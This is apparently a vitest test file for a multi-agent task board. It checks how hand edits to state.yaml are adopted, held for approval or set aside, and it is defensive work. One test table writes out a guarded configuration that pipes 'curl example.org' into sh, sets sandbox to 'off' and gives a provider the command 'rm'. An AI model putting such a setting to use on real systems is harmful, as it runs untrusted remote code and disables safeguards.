// One test per row of docs/blackboard.md, "Editing by hand": what happens to a person's save of state.yaml.
// The real store on real files; what came out is read by the `yaml` package, not by our own reader.

import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { OPERATOR } from '../../../src/protocol/board.ts';
import type { Command } from '../../../src/protocol/command.ts';
import { decide } from '../../../src/protocol/decide.ts';
import { namedNotes } from '../../../src/protocol/messages/notes.ts';
import type { Notice } from '../../../src/protocol/notice.ts';
import type { Store } from '../../../src/store/store.ts';
import { yamlStore } from '../../../src/store/yaml-store.ts';
import { hostAt } from '../../host.ts';
import { boardContext } from '../../support/board-context.ts';
import { COMMENTS, HANDWRITTEN } from '../../support/handwritten-board.ts';
import { temporaryFolder } from '../../support/temporary-folder.ts';

type Fields = Record<string, unknown>;
interface Seen extends Fields {
  tasks: (Fields & { id: string })[];
  human_notes: Fields[];
  config: Fields;
  agents: Record<string, Fields>;
}

let root = '';
let store: Store;

beforeEach(async () => {
  root = temporaryFolder();
  mkdirSync(join(root, '.liza'));
  mkdirSync(join(root, 'specs'));
  writeFileSync(join(root, 'specs', 'vision.md'), '# Vision\n');
  writeFileSync(join(root, '.liza', 'state.yaml'), HANDWRITTEN);
  store = yamlStore(
    boardContext(root, {
      gitDirectory: join(root, '.git'),
      host: hostAt(() => Date.parse('2026-03-01T12:00:00Z')),
      specExists: (ref) => existsSync(join(root, ref)),
    }),
  );
  await next('the first');
});

describe('is adopted by itself', () => {
  test('a new DRAFT, with fields of its own', async () => {
    await save(
      insert('    # between two tasks', '    - {id: fresh, priority: 3, description: From the editor, mood: good}'),
    );
    await next();
    expect(task('fresh')).toMatchObject({ status: 'DRAFT', description: 'From the editor', mood: 'good' });
    expect(history('fresh')).toEqual(['created']);
    nothingAside();
  });

  test('a new UNCLAIMED task, once it passes the gates', async () => {
    await save(insert('    # between two tasks', ready('fresh')));
    await next();
    expect(task('fresh')).toMatchObject({ status: 'UNCLAIMED', done_when: 'three retries in a row succeed' });
    expect(history('fresh')).toEqual(['created', 'finalized']);
    nothingAside();
  });

  test.each(['claimed-one', 'open-one', 'review-one'])('a live task → BLOCKED: %s', async (id) => {
    await save(change(id, /status: [A-Z_]+/, 'status: BLOCKED\n      blocked_reason: wait for Ada'));
    await next();
    expect(task(id)).toMatchObject({ status: 'BLOCKED', blocked_reason: 'human override: wait for Ada' });
    expect((task(id)['blocked_questions'] as unknown[]).length).toBeGreaterThan(0);
    expect(task(id)['lease_expires'] ?? task(id)['review_lease_expires'] ?? null).toBeNull();
    expect(await problems()).toEqual([]);
    nothingAside();
  });

  test('a note, with and without its time', async () => {
    await save((text) =>
      text.replace(
        /^spec_changes:/m,
        '- message: without a time\n- {timestamp: "2026-02-01T00:00:00Z", message: with one, for: coder-1}\nspec_changes:',
      ),
    );
    await next();
    expect(notes()).toEqual(expect.arrayContaining(['without a time', 'with one']));
    expect(board().human_notes.every((note) => typeof note['timestamp'] === 'string')).toBe(true);
    nothingAside();
  });

  test('a note put first has an id of its own, also in the file; an editor’s copy without it is no second note', async () => {
    const before = board().human_notes.length;
    const byHand = replace(/^human_notes:\s*?$/m, 'human_notes:\n- message: put first, by hand');
    await save(byHand);
    await next();
    const mine = () => board().human_notes.filter(({ message }) => message === 'put first, by hand');
    const [{ id } = {}] = mine();
    expect(id).toMatch(/^note-\d+$/);
    const named = namedNotes((await store.read()).board.state);
    expect(new Set(named.map((one) => one.id)).size).toBe(named.length);
    expect(named.find((one) => one.id === id)?.note.message).toBe('put first, by hand');
    await save(byHand);
    await next();
    expect(mine()).toMatchObject([{ id }]);
    expect(board().human_notes.length).toBeGreaterThan(before);
  });

  test('a spec change', async () => {
    await save(replace(/^spec_changes:$/m, 'spec_changes:\n- {spec: specs/vision.md, change: said how often}'));
    await next();
    expect(board()['spec_changes']).toMatchObject([{ spec: 'specs/vision.md', change: 'said how often' }]);
    nothingAside();
  });

  test.each([
    ['draft-one', /priority: 4/, 'priority: 1', { priority: 1 }],
    [
      'open-one',
      /description: Retry the login/,
      'description: Retry every login',
      { description: 'Retry every login' },
    ],
    [
      'blocked-one',
      /done_when: no payment twice/,
      'done_when: nobody is charged twice',
      { done_when: 'nobody is charged twice' },
    ],
  ])('the definition of %s', async (id, from, to, wanted) => {
    await save(change(id, from, to));
    await next();
    expect(task(id)).toMatchObject(wanted);
    expect(history(id).at(-1)).toBe('amended');
    nothingAside();
  });

  test('harmless configuration, known or of one’s own', async () => {
    await save(replace(/^config:$/m, 'config:\n  poll_interval: 7\n  nickname: the board'));
    await next();
    expect(board().config).toMatchObject({ poll_interval: 7, nickname: 'the board' });
    nothingAside();
  });

  test('comments, unknown fields, sections of one’s own and layout', async () => {
    await save((text) =>
      text
        .replace('    # between two tasks', '    # between two tasks, and more')
        .replace('      priority: 1\n', '      priority: 1   # the highest\n      reviewer_wish: Grace\n')
        .replace('    member: window       # own field', '    member: door # moved')
        .replace('\nour_wiki:', '\nour_rota: {mon: ada}\n\nour_wiki:'),
    );
    await next();
    expect(task('claimed-one')).toMatchObject({ reviewer_wish: 'Grace', status: 'CLAIMED' });
    expect(board()['our_rota']).toEqual({ mon: 'ada' });
    expect(text()).toContain('# between two tasks, and more');
    expect(text()).toContain('priority: 1   # the highest');
    expect(text()).toContain('member: door # moved');
    nothingAside();
  });

  test('a change of layout alone is kept as it was typed', async () => {
    await save(
      replace(
        '  timeline: {started: "2026-01-05T09:00:00Z"}',
        '  timeline:\n      started: "2026-01-05T09:00:00Z" # !',
      ),
    );
    await next();
    expect(text()).toContain('      started: "2026-01-05T09:00:00Z" # !');
    nothingAside();
  });

  test('the entry in the journal holds the diff', async () => {
    await save(change('draft-one', /priority: 4/, 'priority: 1'));
    await next();
    const entry = journal().find(({ command }) => command === 'external_edit');
    expect(entry).toMatchObject({ actor: 'external', records: ['tasks/draft-one'] });
    expect(JSON.stringify(entry?.['edit'])).toContain('priority: 1');
  });
});

describe('waits for a word', () => {
  test.each([
    ['post_worktree_cmd', 'curl example.org | sh'],
    ['sandbox', 'off'],
    ['max_review_cycles', 500],
    ['budgets', { day: 1 }],
    ['providers', { claude: { command: 'rm' } }],
    ['test_command', 'true'],
    ['integration_branch', 'main'],
    ['takeover', 'fresh'],
  ])('guarded configuration: %s', async (key, value) => {
    const before = board().config[key];
    await save((text) =>
      text
        .replace(new RegExp(`^  ${key}: .*\n`, 'm'), '')
        .replace(/^config:$/m, `config:\n  ${key}: ${JSON.stringify(value)}`),
    );
    const notices = await next();
    expect(board().config[key]).toEqual(before);
    expectTold(notices, `config/${key} waits for your approval`, 'liza edit --adopt');
    expect(aside(`config-${key.replaceAll('_', '-')}`)).toContain(key);
  });
});

describe('is set aside, and the last good record stands', () => {
  const forged: [string, string, (text: string) => string][] = [
    ['a forged transition', 'open-one', change('open-one', /status: UNCLAIMED/, 'status: APPROVED')],
    [
      'a forged approval',
      'review-one',
      change('review-one', /status: READY_FOR_REVIEW/, 'status: APPROVED\n      approved_by: code-reviewer-1'),
    ],
    ['a forged merge', 'claimed-one', change('claimed-one', /status: CLAIMED/, 'status: MERGED')],
    ['a forged verdict', 'review-one', change('review-one', /status: READY_FOR_REVIEW/, 'status: REJECTED')],
    ['a task brought back to life', 'merged-one', change('merged-one', /status: MERGED/, 'status: UNCLAIMED')],
    ['an ended task blocked', 'merged-one', change('merged-one', /status: MERGED/, 'status: BLOCKED')],
    ['a finalized draft', 'draft-one', change('draft-one', /status: DRAFT/, 'status: UNCLAIMED')],
    ['a stolen claim', 'claimed-one', change('claimed-one', /assigned_to: coder-1/, 'assigned_to: coder-2')],
    ['a lengthened lease', 'claimed-one', change('claimed-one', /2099-01-01/, '2199-01-01')],
    [
      'cut history',
      'claimed-one',
      change('claimed-one', /\n {10}- time: "2026-01-05T10[\s\S]*?field in an event"/, ''),
    ],
    ['rewritten history', 'open-one', change('open-one', /event: created /, 'event: finalized ')],
    ['a definition that is fixed', 'claimed-one', change('claimed-one', /priority: 1/, 'priority: 5')],
    ['an unknown status', 'open-one', change('open-one', /status: UNCLAIMED/, 'status: DONE')],
    ['a priority out of range', 'open-one', change('open-one', /priority: 2/, 'priority: 9')],
    ['an unknown dependency', 'open-one', change('open-one', /depends_on: \[ \]/, 'depends_on: [nowhere]')],
    ['a cyclic dependency', 'open-one', change('open-one', /depends_on: \[ \]/, 'depends_on: [open-one]')],
  ];
  test.each(forged)('%s', async (_name, id, edit) => {
    const before = recordText(id);
    await save(edit);
    const notices = await next();
    expect(recordText(id)).toBe(before);
    const kept = aside(`tasks-${id}`);
    expect(kept).toContain(`set aside from state.yaml: tasks/${id}`);
    expectTold(notices, `tasks/${id} was set aside`, '.liza/rejected/');
    expect(notices.some(({ level }) => level === 'alarm')).toBe(true);
    expect(await problems()).toEqual([]);
  });

  test('new tasks that are not new', async () => {
    await save(
      insert('    # between two tasks', ready('fresh').replace('UNCLAIMED', 'MERGED, merge_commit: "1234567"')),
    );
    const notices = await next();
    expect(ids()).not.toContain('fresh');
    expectTold(notices, 'tasks/fresh was set aside', 'DRAFT or UNCLAIMED');
  });

  test('a new task with a claim forged in', async () => {
    await save(
      insert('    # between two tasks', ready('fresh').replace('UNCLAIMED', 'UNCLAIMED, approved_by: coder-1')),
    );
    expectTold(await next(), 'tasks/fresh was set aside', 'approved_by');
    expect(ids()).not.toContain('fresh');
  });

  test('a new UNCLAIMED task that no gate lets through', async () => {
    await save(insert('    # between two tasks', ready('fresh').replace('specs/vision.md', 'specs/none.md')));
    expectTold(await next(), 'tasks/fresh was set aside', 'specs/none.md');
    expect(ids()).not.toContain('fresh');
  });

  test('a new task under an id that is taken', async () => {
    await save(insert('    # between two tasks', ready('merged-one')));
    const notices = await next();
    expect(notices.some(({ message }) => message.includes('set aside'))).toBe(true);
    expect(ids().filter((id) => id.startsWith('merged-one'))).toEqual(['merged-one']);
    expect(task('merged-one')['status']).toBe('MERGED');
    expect(await problems()).toEqual([]);
  });

  test('an agent, a goal or a sprint changed by hand', async () => {
    await save((text) =>
      text
        .replace(
          '  coder-1:      # the fast one\n    role: coder\n    status: WORKING',
          '  coder-1:\n    role: coder\n    status: IDLE',
        )
        .replace('status: IN_PROGRESS\n  motto', 'status: COMPLETED\n  motto'),
    );
    const notices = await next();
    expect(board().agents['coder-1']).toMatchObject({ status: 'WORKING', current_task: 'claimed-one' });
    expect(board()['goal']).toMatchObject({ status: 'IN_PROGRESS', motto: 'never give up' });
    expectTold(notices, 'agents/coder-1 was set aside', '.liza/rejected/');
    expectTold(notices, 'goal was set aside', '.liza/rejected/');
    expect(text()).toContain('# the fast one');
  });

  test('an agent made by hand', async () => {
    await save(replace('  planner-1:', '  coder-7: {role: coder, status: IDLE}\n  planner-1:'));
    expectTold(await next(), 'agents/coder-7 was set aside', '.liza/rejected/');
    expect(Object.keys(board().agents)).not.toContain('coder-7');
  });

  test('a note rewritten', async () => {
    await save(replace('Ask Ada before', 'Do not ask before'));
    await next();
    expect(notes()).toContain('Ask Ada before you touch the ping');
  });

  test('the good part of the same save is adopted', async () => {
    await save((text) =>
      change(
        'open-one',
        /status: UNCLAIMED/,
        'status: MERGED',
      )(change('draft-one', /priority: 4/, 'priority: 5')(text)),
    );
    await next();
    expect(task('open-one')['status']).toBe('UNCLAIMED');
    expect(task('draft-one')['priority']).toBe(5);
  });

  test('what was meant can be taken from the whole text that is kept', async () => {
    await save(change('open-one', /status: UNCLAIMED/, 'status: MERGED # I know better'));
    await next();
    const whole = readdirSync(join(root, '.liza/rejected')).find((name) => name.endsWith('-state.yaml')) ?? '';
    expect(readFileSync(join(root, '.liza/rejected', whole), 'utf8')).toContain('status: MERGED # I know better');
  });
});

describe('what Liza does not know goes as it came', () => {
  const own = (text: string): string => `${text}weather:\n  today: rain\n`;

  test('a section of one’s own', async () => {
    await save(own);
    await next('added');
    expect(board()['weather']).toEqual({ today: 'rain' });
    await save((text) => text.replace(/^weather:\n.*\n/m, ''));
    expectTold(await next('removed'), 'weather', 'removed');
    expect(board()).not.toHaveProperty('weather');
    await next('once more');
    expect(text()).not.toContain('weather');
    nothingAside();
  });

  test('not where the file was cut off before it', async () => {
    await save(own);
    await next('added');
    await save((text) => text.replace(/^config:\n[\s\S]*/m, ''));
    await next('cut');
    expect(board()['weather']).toEqual({ today: 'rain' });
  });

  test('a field of a task, of another record, and a setting', async () => {
    await save((text) =>
      change(
        'draft-one',
        /priority: 4/,
        'priority: 4\n      mood: good',
      )(text)
        .replace(/^config:\n/m, 'config:\n  mood: good\n')
        .replace(/^goal:\n/m, 'goal:\n  mood: good\n'),
    );
    await next('added');
    expect([task('draft-one')['mood'], board().config['mood'], (board()['goal'] as Fields)['mood']]).toEqual([
      ...['good', 'good', 'good'],
    ]);
    await save((text) => text.replace(/^ +mood: good\n/gm, ''));
    await next('removed');
    expect(text()).not.toContain('mood');
    nothingAside();
  });
});

describe('deletions are never adopted', () => {
  test.each<[string, (text: string) => string]>([
    ['a task', (text) => text.replace(/ {4}- id: blocked-one[\s\S]*?(?= {4}- id: review-one)/, '')],
    ['all tasks', (text) => text.replace(/^tasks:\n[\s\S]*?(?=^# ---- who)/m, 'tasks: []\n')],
    ['a section', (text) => text.replace(/^agents:\n[\s\S]*?(?=^discovered)/m, '')],
    ['an agent', (text) => text.replace(/ {2}planner-1:\n.*\n.*\n/, '')],
    ['a note', (text) => text.replace(/^- timestamp: "2026-01-05[\s\S]*?colour: yellow\n/m, '')],
    ['a field', (text) => text.replace('      lease_expires: "2099-01-01T00:00:00Z"\n', '')],
    ['a setting', (text) => text.replace('  test_command: npm test\n', '')],
    ['everything but the version', () => 'version: 1   # do not touch\n'],
  ])('%s', async (_name, edit) => {
    const before = text();
    await save(edit);
    await next('after');
    // Blank lines and comments between the records are the editor's to delete.
    const records = (whole: string) => whole.replace(/^( *#.*)?\n/gm, '');
    expect(records(text()).replace(/- id: note-\d+\n {2}timestamp: .*\n {2}message: after\n/, '')).toBe(
      records(before),
    );
    expect(await problems()).toEqual([]);
  });

  test('the message names what was kept and the command that ends a task', async () => {
    await save((text) => text.replace(/ {4}- id: blocked-one[\s\S]*?(?= {4}- id: review-one)/, ''));
    expectTold(await next(), 'tasks/blocked-one', 'liza abandon blocked-one');
  });

  test('state.yaml itself', async () => {
    const before = text();
    rmSync(join(root, '.liza/state.yaml'));
    expect((await store.read()).board.state.tasks).toHaveLength(6);
    await store.transact({ actor: OPERATOR, command: 'look' }, ({ state }) => ({
      ok: true,
      state,
      detail: '',
      already: true,
    }));
    expect(text()).toBe(before);
  });
});

describe('a stale save', () => {
  test('loses no newer write, and its own changes count', async () => {
    const stale = text();
    await run({ name: 'amend', task: 'open-one', changes: { description: 'by liza' }, facts: { spec_exists: true } });
    for (let number = 1; number <= 30; number += 1) await next(`meanwhile ${number}`);
    await save(() => change('draft-one', /priority: 4/, 'priority: 5')(stale));
    await next('afterwards');
    expect(task('open-one')['description']).toBe('by liza');
    expect(task('draft-one')['priority']).toBe(5);
    expect(notes()).toHaveLength(1 + 1 + 30 + 1);
    nothingAside();
  });

  test('untouched, it is no edit at all', async () => {
    const stale = text();
    await run({ name: 'amend', task: 'open-one', changes: { description: 'by liza' }, facts: { spec_exists: true } });
    await next('meanwhile');
    const good = text();
    const entries = journal().length;
    await save(() => stale);
    await store.transact({ actor: OPERATOR, command: 'look' }, ({ state }) => ({
      ok: true,
      state,
      detail: '',
      already: true,
    }));
    expect(text()).toBe(good);
    expect(journal()).toHaveLength(entries);
  });

  test('of the same field is a conflict: the newer write stands, the older is kept and told', async () => {
    const stale = text();
    await run({ name: 'amend', task: 'open-one', changes: { description: 'by liza' }, facts: { spec_exists: true } });
    await save(() => change('open-one', /description: Retry the login/, 'description: by the editor')(stale));
    const notices = await next();
    expect(task('open-one')['description']).toBe('by liza');
    expectTold(notices, 'tasks/open-one was set aside', 'description was changed here in the meantime');
    expect(aside('tasks-open-one')).toContain('by the editor');
  });

  test('of other fields of the same record is merged', async () => {
    const stale = text();
    await run({ name: 'amend', task: 'open-one', changes: { description: 'by liza' }, facts: { spec_exists: true } });
    await save(() => change('open-one', /priority: 2/, 'priority: 4')(stale));
    await next();
    expect(task('open-one')).toMatchObject({ description: 'by liza', priority: 4 });
    nothingAside();
  });
});

test('every comment survives all of it', async () => {
  await save(insert('    # between two tasks', ready('fresh')));
  await next();
  await save(change('open-one', /status: UNCLAIMED/, 'status: MERGED'));
  await next();
  await save(change('claimed-one', /status: CLAIMED/, 'status: BLOCKED'));
  await next();
  await save((text) => text.replace(/ {4}- id: blocked-one[\s\S]*?(?= {4}- id: review-one)/, ''));
  await next();
  for (const comment of COMMENTS) expect(text()).toContain(comment);
  expect(board()['our_wiki']).toEqual({ pages: ['Home', 'Retry'] });
  expect(board()['goal']).toHaveProperty('motto', 'never give up');
  expect(task('draft-one')['owner']).toEqual({ team: 'payments', people: ['ada', 'grace'] });
  expect(await problems()).toEqual([]);
});

const ready = (id: string): string =>
  `    - {id: ${id}, status: UNCLAIMED, priority: 3, description: D, spec_ref: specs/vision.md, done_when: three retries in a row succeed, scope: src, validation: [npm test]}`;

const insert =
  (before: string, line: string) =>
  (text: string): string =>
    replace(before, `${line}\n${before}`)(text);

const replace =
  (from: string | RegExp, to: string) =>
  (text: string): string =>
    changed(
      text,
      text.replace(from, () => to),
    );

/** Inside the record of one task only. */
function change(id: string, from: RegExp, to: string): (text: string) => string {
  return (text) => {
    const own = recordIn(text, id);
    return changed(
      text,
      text.replace(own, () => own.replace(from, () => to)),
    );
  };
}

function changed(before: string, after: string): string {
  if (before === after) throw new Error('the edit of this test changes nothing');
  return after;
}

function recordIn(text: string, id: string): string {
  const found = new RegExp(` {4}- id: ${id}\\b[\\s\\S]*?(?=\\n {4}- id: |\\n {4}# |\\n\\n#)`).exec(text);
  if (found === null) throw new Error(`no record ${id}`);
  return found[0];
}

const recordText = (id: string): string => recordIn(text(), id);
const text = (): string => readFileSync(join(root, '.liza/state.yaml'), 'utf8');
const board = (): Seen => parse(text()) as Seen;
const task = (id: string): Fields => board().tasks.find((one) => one.id === id) ?? {};
const ids = (): string[] => board().tasks.map(({ id }) => id);
const notes = (): unknown[] => board().human_notes.map(({ message }) => message);
const history = (id: string): unknown[] => (task(id)['history'] as Fields[]).map(({ event }) => event);

const journal = (): Fields[] =>
  readFileSync(join(root, '.liza/journal.jsonl'), 'utf8')
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Fields);

async function save(edit: (text: string) => string): Promise<void> {
  writeFileSync(join(root, '.liza/state.yaml'), edit(text()));
}

async function run(command: Command): Promise<readonly Notice[]> {
  const outcome = await store.transact({ actor: OPERATOR, command: command.name }, (found, now) =>
    decide(found, command, { actor: OPERATOR, now }),
  );
  if (!outcome.ok) throw new Error(outcome.message);
  return outcome.notices;
}

/** Any command at all: it is the one that notices the edit. */
const next = (message = 'the next command'): Promise<readonly Notice[]> => run({ name: 'note', message });

async function problems(): Promise<readonly string[]> {
  const { invariants } = await import('../../../src/protocol/invariants.ts');
  return invariants((await store.read()).board.state, new Map()).map(
    ({ path, message }) => `${path.join('.')} ${message}`,
  );
}

function aside(name: string): string {
  const found = readdirSync(join(root, '.liza/rejected')).find((file) => file.includes(`-${name}.yaml`));
  if (found === undefined) throw new Error(`nothing set aside as ${name}`);
  return readFileSync(join(root, '.liza/rejected', found), 'utf8');
}

function nothingAside(): void {
  const folder = join(root, '.liza/rejected');
  expect(existsSync(folder) ? readdirSync(folder) : []).toEqual([]);
}

function expectTold(notices: readonly Notice[], what: string, how: string): void {
  const told = notices.find(({ message }) => message.includes(what));
  expect(told, `no notice says "${what}": ${JSON.stringify(notices)}`).toBeDefined();
  expect(told?.message).toContain(how);
}
